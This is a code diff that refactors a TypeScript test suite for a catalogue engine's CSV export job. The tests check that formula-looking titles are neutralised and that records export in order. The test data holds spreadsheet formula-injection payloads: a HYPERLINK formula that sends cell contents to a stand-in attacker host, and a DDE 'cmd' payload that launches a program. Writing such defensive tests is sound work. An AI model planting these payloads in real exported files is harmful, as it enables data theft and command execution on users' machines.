@@ -1,11 +1,9 @@
-import { fileURLToPath } from "node:url";
 import { csvLine, csvLines } from "@docket/engine";
 import { parse } from "csv-parse/sync";
 import { describe, expect, it } from "vitest";
-import { insertCatalog, insertSet, query } from "./support/catalogFixture.ts";
-import { createTestEngine, waitForStatus } from "./support/testEngine.ts";
-
-const jobsDir = fileURLToPath(new URL("../jobs/", import.meta.url));
+import { query } from "./support/catalogFixture.ts";
+import { engineWithSetOf } from "./support/setEngine.ts";
+import { readRunFile, waitForStatus } from "./support/testEngine.ts";
 
 /** The cells of a CSV text as a strict RFC 4180 parser reads them. */
 function parseCsv(text: string): string[][] {
@@ -41,8 +39,6 @@ describe("the CSV writer", () => {
   });
 
   it("neutralises formula-looking titles in the file records.export-csv writes", async () => {
-    await using t = await createTestEngine({ jobsDir });
-    const url = t.database.url;
     const titles = [
       '=HYPERLINK("http://evil.example/?"&A1,"Click")',
       "+1+1",
@@ -51,31 +47,22 @@ describe("the CSV writer", () => {
       "\tTabbed title",
       "Plain, with a comma",
     ];
+    await using t = await engineWithSetOf(titles.length, "records");
     await query(
-      url,
-      `insert into bib_records (id, title, author, year, subjects)
-       select g, ($1::text[])[g], case when g = 2 then '=cmd|'' /C calc''!A0' else 'Author ' || g end,
-              case when g = 3 then -44 else 1900 + g end, array['-Subject', 'Art']
-       from generate_series(1, $2::int) g`,
-      [titles, titles.length],
+      t.database.url,
+      `update bib_records
+       set title = ($1::text[])[id],
+           author = case when id = 2 then '=cmd|'' /C calc''!A0' else 'Author ' || id end,
+           year = case when id = 3 then -44 else 1900 + id end,
+           subjects = array['-Subject', 'Art']`,
+      [titles],
     );
-    const setId = await insertSet(url, {
-      name: "Formulas",
-      target: "records",
-      memberIds: { from: 1, to: titles.length },
-    });
     await using _worker = await t.engine.startWorker();
-    const run = await t.engine.runs.start({
-      jobId: "records.export-csv",
-      params: {},
-      setId,
-      createdBy: "ana",
-    });
+    const run = await t.startOnSet("records.export-csv");
     expect((await waitForStatus(t.engine, run.id, ["completed", "failed"])).status).toBe(
       "completed",
     );
-    let csv = "";
-    for await (const chunk of t.engine.runs.readFile(run.id, "records.csv")) csv += chunk;
+    const csv = await readRunFile(t.engine, run.id, "records.csv");
 
     const [header, ...rows] = parseCsv(csv);
     expect(header).toEqual(["id", "title", "author", "year", "subjects"]);
@@ -97,28 +84,14 @@ describe("the CSV writer", () => {
   });
 
   it("records.export-csv writes every record once and in order across chunks whose first ids differ in digit count", async () => {
-    await using t = await createTestEngine({ jobsDir });
-    const url = t.database.url;
     const records = 12_000; // six chunks of 2,000, keyed 1, 2001 … 10001
-    await insertCatalog(url, { items: records * 2 });
-    const setId = await insertSet(url, {
-      name: "Everything",
-      target: "records",
-      memberIds: { from: 1, to: records },
-    });
+    await using t = await engineWithSetOf(records, "records");
     await using _worker = await t.engine.startWorker();
-    const run = await t.engine.runs.start({
-      jobId: "records.export-csv",
-      params: { includeSubjects: false },
-      setId,
-      createdBy: "ana",
-    });
+    const run = await t.startOnSet("records.export-csv", { includeSubjects: false });
     expect((await waitForStatus(t.engine, run.id, ["completed", "failed"], 60_000)).status).toBe(
       "completed",
     );
-    let csv = "";
-    for await (const chunk of t.engine.runs.readFile(run.id, "records.csv")) csv += chunk;
-    const [header, ...rows] = parseCsv(csv);
+    const [header, ...rows] = parseCsv(await readRunFile(t.engine, run.id, "records.csv"));
     expect(header?.[0]).toBe("id");
     expect(rows.map((row) => Number(row[0]))).toEqual(
       Array.from({ length: records }, (_, index) => index + 1),
